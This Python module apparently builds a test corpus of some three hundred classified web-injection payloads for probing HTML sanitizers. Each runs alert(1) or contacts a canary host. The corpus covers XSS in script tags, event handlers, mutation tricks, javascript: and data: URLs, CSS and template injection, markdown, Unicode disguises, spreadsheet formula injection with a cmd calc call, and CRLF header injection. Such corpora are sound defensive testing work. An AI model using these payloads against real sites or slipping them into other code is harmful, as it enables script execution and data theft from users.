# ruff: noqa: E501 (payloads are not broken)
"""Three hundred texts that want to run, to be followed or to lead astray; each of one class.

Whatever runs calls `alert(1)` or asks the host CANARY for something: the judge sees both.
"""

from __future__ import annotations

from itertools import product

CANARY = "canary.invalid"
HANDLERS = (
    ("img", "onerror", " src=x"), ("svg", "onload", ""), ("body", "onload", ""), ("input", "onfocus", " autofocus"),
    ("details", "ontoggle", " open"), ("video", "onerror", " src=x"), ("audio", "onerror", " src=x"),
    ("iframe", "onload", " src=about:blank"), ("select", "onfocus", " autofocus"), ("marquee", "onstart", ""),
    ("object", "onerror", " data=x"), ("style", "onload", ""), ("link", "onerror", " rel=stylesheet href=x"),
    ("div", "onpointerover", " style=position:fixed;inset:0"), ("textarea", "onfocus", " autofocus"),
    ("custom-tag", "onfocus", " id=x tabindex=1 autofocus"), ("video", "oncanplay", " autoplay src=data:,"),
    ("button", "onclick", ""), ("a", "onmouseover", " href=#"), ("div", "onanimationend", " style=animation:x"),
)  # fmt: skip
FORMS = (
    "<{tag}{more} {event}=alert(1)>", "\"><{tag}{more} {event}=alert(1)>", "'><{tag}{more} {event}='alert(1)'>",
    "<{tag}/{event}=alert`1`{more}//", "</textarea></title></style><{tag}{more} {event}=\"alert(1)\">",
)  # fmt: skip
CODE = (
    "alert(1)",
    "alert(1)//",
    "fetch('//canary.invalid/j')",
    "void(document.body.innerHTML='<img src=x onerror=alert(1)>')",
)
SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "\tjavascript:", "java\tscript:", "java\nscript:", "javascript\t:",
    "\x01javascript:", "java\x00script:", "javascript&colon;", "&#106;avascript:", "&#x6A&#x61&#x76&#x61script:",
    "javascript:%0a", "javascript://x.test/%0a", "view-source:javascript:", "feed:javascript:", "vbscript:",
)  # fmt: skip
URLS = [scheme + code for scheme, code in product(SCHEMES, CODE)] + [
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html;charset=utf-8,<svg onload=alert(1)>", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "data:application/javascript,alert(1)", "data:,alert(1)", "blob:https://canary.invalid/x", "filesystem:https://canary.invalid/x",
    "//canary.invalid/x", "\\\\canary.invalid\\x", "/\\canary.invalid", "https:canary.invalid", "https:/\\canary.invalid",
    "https://a.example@canary.invalid/", "file:///etc/passwd", "intent://canary.invalid#Intent;end", "ws://canary.invalid/",
    "http://127.0.0.1:1@canary.invalid/\" onmouseover=alert(1) x=\"", "https://canary.invalid/'onerror='alert(1)",
    "https://canary.invalid/`-alert(1)-`", "https://сanary.invalid/", "https://canary.invalid/\u202egpj.exe",
]  # fmt: skip
SCRIPTS = [
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=//canary.invalid/x.js></script>",
    "<script type=module>import('//canary.invalid/x.js')</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script\t>", "</script><script>alert(1)</script>", "<script>/*</script><script>*/alert(1)</script>",
    "<svg><script>alert&#40;1&#41;</script></svg>", "<svg><script href=data:,alert(1) />", "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "＜script＞alert(1)＜/script＞",
    "<script\u0000>alert(1)</script>", "<%00script>alert(1)</script>", "-alert(1)-", "';alert(1)//", "\";alert(1)//",
    "\\';alert(1)//", "`;alert(1)//", "*/alert(1)/*", "]]><script>alert(1)</script>", "--><script>alert(1)</script>",
]  # fmt: skip
MUTATING = [
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img title=\"</style><img src onerror='alert(1)'>\">",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<template><img src=x onerror=alert(1)></template>", "<xmp><img alt=\"</xmp><img src=x onerror=alert(1)>\">",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<a title=\"`<img src=x onerror=alert(1)>\">x</a>",
    "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>", "<table><td><svg><a><td><img src=x onerror=alert(1)>",
    "<option><style></option></select><img src=x onerror=alert(1)></style>", "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><x xmlns=\"http://www.w3.org/1999/xhtml\" onclick=\"alert(1)\">x</x>",
]  # fmt: skip
DRAWN = [
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onbegin=alert(1) attributename=x to=1>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><image href=//canary.invalid/i.svg></svg>", "<svg xmlns:x=\"http://www.w3.org/1999/xlink\"><a x:href=\"javascript:alert(1)\">x</a></svg>",
    "<math href=\"javascript:alert(1)\">x</math>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
]  # fmt: skip
PAGES = [
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src=//canary.invalid></iframe>", "<embed src=javascript:alert(1)>", "<object data=javascript:alert(1)></object>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<meta http-equiv=refresh content=\"0;url=//canary.invalid\">",
    "<base href=//canary.invalid/>", "<base target=_top href=\"javascript:\">", "<link rel=import href=//canary.invalid>",
    "<link rel=stylesheet href=//canary.invalid/x.css>", "<link rel=prefetch href=//canary.invalid>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>",
    "<form action=//canary.invalid><input name=q>", "<portal src=//canary.invalid>", "<fencedframe src=//canary.invalid>",
    "<img src=//canary.invalid/p.png>", "<img srcset=//canary.invalid/p.png>", "<video poster=//canary.invalid/p.png>",
    "<audio src=//canary.invalid/a.mp3 autoplay>", "<picture><source srcset=//canary.invalid/p><img></picture>",
    "<body background=//canary.invalid/p>", "<table background=//canary.invalid/p>", "<a href=//canary.invalid ping=//canary.invalid/ping>x</a>",
    "<dialog open><button autofocus onfocus=alert(1)>x</button></dialog>", "<div popover id=p onbeforetoggle=alert(1)>",
]  # fmt: skip
STYLES = [
    "<style>@import '//canary.invalid/x.css';</style>", "<style>*{background:url(//canary.invalid/b)}</style>",
    "<div style=\"background:url(//canary.invalid/b)\">", "x;background:url(//canary.invalid/b)", "red}*{background:url(//canary.invalid/b)}",
    "expression(alert(1))", "url(javascript:alert(1))", "</style><script>alert(1)</script>", "<div style=\"behavior:url(x.htc)\">",
    "<style>@font-face{font-family:x;src:url(//canary.invalid/f)}*{font-family:x}</style>",
]  # fmt: skip
TEMPLATES = [
    "{{constructor.constructor('alert(1)')()}}", "{{7*7}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{%import os%}",
    "{x.__class__.__mro__}", "%s%s%n", "$(alert(1))", "[[${alert(1)}]]", "{{$on.constructor('alert(1)')()}}", "<x v-html=\"'<img src=x onerror=alert(1)>'\">",
    "<div ng-app ng-csp>{{$eval.constructor('alert(1)')()}}</div>", "<div x-data x-init=alert(1)>", "<p hx-on:load=alert(1) hx-get=//canary.invalid hx-trigger=load>",
]  # fmt: skip
MARKED = [
    "[x](javascript:alert(1))", "![x](javascript:alert(1))", "![x](//canary.invalid/p.png)", "[x]: javascript:alert(1)", "<javascript:alert(1)>",
    "[url=javascript:alert(1)]x[/url]", "[img]//canary.invalid/p.png[/img]", "https://x.test/\"onmouseover=\"alert(1)",
    "https://x.test/<img src=x onerror=alert(1)>", "mailto:x@x.test?body=<img src=x onerror=alert(1)>", "tel:1\" onclick=\"alert(1)",
]  # fmt: skip
BREAKERS = [
    "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=`alert(1)", "x onmouseover=alert(1) ", "\" autofocus onfocus=alert(1) x=\"",
    "' autofocus onfocus=alert(1) x='", "\"><svg onload=alert(1)>", "'><svg onload=alert(1)>", "\" style=\"background:url(//canary.invalid/b)\" x=\"",
    "\" srcdoc=\"<script>alert(1)</script>", "&quot; onmouseover=alert(1) ", "\"/onload=alert(1)/x=\"", "/onerror=alert(1)//",
    "\u2028alert(1)\u2029", "__proto__", "constructor", "{\"__proto__\":{\"innerHTML\":\"<img src=x onerror=alert(1)>\"}}",
    "{\"dangerouslySetInnerHTML\":{\"__html\":\"<img src=x onerror=alert(1)>\"}}", "{\"type\":\"script\",\"props\":{\"src\":\"//canary.invalid\"}}",
]  # fmt: skip
LETTERS = [
    "\u202e<img src=x onerror=alert(1)>\u202c", "\u2066<script>alert(1)</script>\u2069", "\ufeff<script>alert(1)</script>",
    "<\u200bscript>alert(1)</script>", "e" + "\u0301" * 200 + "<svg onload=alert(1)>", "ʼonmouseover=alert(1)ʼ", "\ufffe<svg onload=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\x1b[31m<svg onload=alert(1)>\x1b[0m", "🏴‍☠️<img src=x onerror=alert(1)>",
    "=HYPERLINK(\"//canary.invalid\",\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1|<svg onload=alert(1)>", "-1\t<svg onload=alert(1)>",
    "x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>", "x\nBcc: a@canary.invalid", "x%0d%0aSet-Cookie:x=1",
]  # fmt: skip
SWALLOWING = [
    "<!--", "<textarea>", "<title>", "<plaintext>", "<style>", "<svg><desc>", "<script>", "<noscript>", "<iframe>", "<xmp>", "<template>", "<a href=\"",
]  # fmt: skip
HANDLED = [
    FORMS[(number + of) % len(FORMS)].format(tag=tag, event=event, more=more)
    for of in range(3) for number, (tag, event, more) in enumerate(HANDLERS)
]  # fmt: skip
CLASSES = {
    "script": SCRIPTS, "handler": HANDLED, "mutating": MUTATING, "drawn": DRAWN, "page": PAGES, "style": STYLES,
    "template": TEMPLATES, "marked": MARKED, "breaker": BREAKERS, "letters": LETTERS, "swallowing": SWALLOWING,
    "url": URLS,
}  # fmt: skip
PAYLOADS = list(dict.fromkeys(text for texts in CLASSES.values() for text in texts))
"""Those that swallow what follows come late, so that beside others they hide few."""
